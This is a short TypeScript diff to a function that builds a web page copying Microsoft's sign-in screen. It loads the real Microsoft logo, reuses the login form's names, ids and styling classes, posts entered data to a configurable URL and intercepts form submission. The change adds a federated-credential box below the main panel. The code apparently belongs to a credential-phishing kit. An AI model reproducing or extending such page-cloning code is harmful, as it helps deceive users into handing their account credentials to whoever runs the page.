@@ -18,11 +18,12 @@ export function drawCard(config: PageConfig): Card {
   const main = element('div', { role: 'main', 'data-bind': "component: { name: 'pagination-control' }" });
   const box = element('div', { id: 'lightbox', class: 'sign-in-box ext-sign-in-box fade-in-lightbox' }, cover, progress,
     element('div', {}, element('img', { class: 'logo', role: 'img', alt: 'Microsoft', src: 'https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg' })), main);
+  const below = element('div', { class: 'promoted-fed-cred-box ext-promoted-fed-cred-box' });
   const form = element('form', { name: 'f1', id: 'i0281', novalidate: 'novalidate', spellcheck: 'false', method: 'post', target: '_top', autocomplete: 'off', action: config.urlPost },
     element('div', { class: 'login-paginated-page' }, element('div', { id: 'lightboxTemplateContainer' }, element('div', { class: 'background-image-holder', role: 'presentation' }),
-      element('div', { class: 'outer' }, element('div', { class: 'middle ext-middle' }, element('div', {}, box)), footer(config, box)))));
+      element('div', { class: 'outer' }, element('div', { class: 'middle ext-middle' }, element('div', {}, box, below)), footer(config, box)))));
   document.body.append(form);
-  const stage = new Stage(main);
+  const stage = new Stage(main, below);
   form.addEventListener('submit', (event) => {
     event.preventDefault();
     if (!cover.classList.contains('disable-lightbox')) stage.current?.submit();
